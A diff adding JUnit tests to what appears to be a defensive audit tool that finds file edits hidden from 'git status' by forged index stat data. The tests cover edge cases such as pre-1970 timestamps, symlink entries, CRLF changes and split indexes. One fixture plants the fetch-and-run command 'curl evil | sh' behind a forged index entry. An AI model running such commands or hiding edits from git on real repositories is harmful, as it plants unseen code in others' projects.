@@ -121,6 +121,91 @@ class UnseenEditsTest {
                 .satisfies(finding -> assertThat(finding.command()).startsWith("1 file: tool; "));
     }
 
+    /** git keeps st_mtime's whole seconds, rounded down before 1970 too; an index dated 0 turns git's racy check off. */
+    @Test
+    void aFileDatedJustBefore1970IsComparedAsGitComparesIt() throws Exception {
+        Path repo = repository(temp, "sha1", 2);
+        Files.writeString(repo.resolve("Makefile"), EVIL);
+        Files.setLastModifiedTime(repo.resolve("Makefile"), FileTime.from(Instant.ofEpochSecond(-1, 500_000_000)));
+        forgeStat(repo, "Makefile", "sha1");
+        Files.setLastModifiedTime(repo.resolve(".git/index"), FileTime.from(Instant.EPOCH));
+        assertThat(git(repo, "status", "--porcelain")).isEmpty();
+
+        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).hasSize(1);
+    }
+
+    /** Where core.symlinks is false (a file system without links), git trusts a regular file at a link's entry. */
+    @Test
+    void aFileAtALinksEntryIsComparedWhereGitTrustsIt() throws Exception {
+        Path repo = repository(temp, "sha1", 2);
+        Files.createSymbolicLink(repo.resolve("tool"), Path.of("Makefile"));
+        commitAll(repo);
+        git(repo, "config", "core.symlinks", "false");
+        Files.delete(repo.resolve("tool"));
+        change(repo, "tool", "curl evil | sh\n");
+        forgeStat(repo, "tool", "sha1");
+        assertThat(git(repo, "status", "--porcelain")).isEmpty();
+
+        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).singleElement()
+                .satisfies(finding -> assertThat(finding.command()).startsWith("1 file: tool; "));
+    }
+
+    /** Without core.autocrlf, git never writes CRLF for LF: a CR added before each LF is a change (a {@code bash\r} shebang). */
+    @Test
+    void carriageReturnsAddedBehindTheIndexAreAChangeUnlessGitChecksTextOutSo() throws Exception {
+        Path repo = repository(temp, "sha1", 2);
+        change(repo, "Makefile", "all:\r\n\techo ok\r\n");
+        forgeStat(repo, "Makefile", "sha1");
+        assertThat(git(repo, "status", "--porcelain")).isEmpty();
+
+        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).hasSize(1);
+        git(repo, "config", "core.autocrlf", "true");
+        assertThat(about(audit(repo.getParent()), UnseenEdits.UNSEEN)).as("what core.autocrlf checks out").isEmpty();
+    }
+
+    /** A change in the second git wrote the index in is one git reads again: it shows it, and so it is no finding. */
+    @Test
+    void anEntryGitTakesAsRacyIsLeftToGit() throws Exception {
+        Path repo = repository(temp, "sha1", 2);
+        Files.writeString(repo.resolve("version"), "version=1.2.3\n");
+        git(repo, "add", "version");
+        Files.writeString(repo.resolve("version"), "version=1.2.4\n");
+        assertThat(git(repo, "status", "--porcelain")).contains("version");
+
+        assertThat(audit(repo.getParent())).isEmpty();
+    }
+
+    /** A split index names the entries that replace those of its shared part by position only. */
+    @Test
+    void anEntryThatReplacesOneOfASplitIndexsSharedPartIsNamedAsNotCompared() throws Exception {
+        Path repo = repository(temp, "sha1", 3);
+        git(repo, "update-index", "--split-index");
+        change(repo, "Makefile", EVIL);
+        git(repo, "add", "Makefile");
+
+        assertThat(about(audit(repo.getParent()), UnseenEdits.UNREAD)).singleElement().satisfies(finding -> {
+            assertThat(finding.file()).isEqualTo("repo/.git/index");
+            assertThat(finding.command()).as("the Makefile, and the entries git add refreshed")
+                    .contains(" whose content the audit cannot compare with its entry: " + GitIndex.SPLIT_REPLACEMENT);
+        });
+    }
+
+    /** A sparse file can claim any size: past the limit it is named, not read. */
+    @Test
+    void aFileLargerThanTheLimitIsNamedNotRead() throws Exception {
+        Path repo = repository(temp, "sha1", 1);
+        try (var big = new java.io.RandomAccessFile(repo.resolve("big.bin").toFile(), "rw")) {
+            big.setLength(UnseenEdits.MAX_FILE_BYTES + 1);
+        }
+        Files.setLastModifiedTime(repo.resolve("big.bin"), FileTime.from(Instant.now().minusSeconds(5)));
+        git(repo, "update-index", "--add", "--cacheinfo", "100644," + git(repo, "hash-object", "-w", "Makefile").strip()
+                + ",big.bin");
+        forgeStat(repo, "big.bin", "sha1");
+
+        assertThat(about(audit(repo.getParent()), UnseenEdits.UNREAD)).singleElement().satisfies(finding -> assertThat(
+                finding.command()).startsWith("1 file whose content the audit cannot compare with its entry: big.bin;"));
+    }
+
     /** Writes {@code content} to the tracked file {@code name}, dated a few seconds back so that git does not take it as racy. */
     static void change(Path repo, String name, String content) throws Exception {
         Path file = repo.resolve(name);
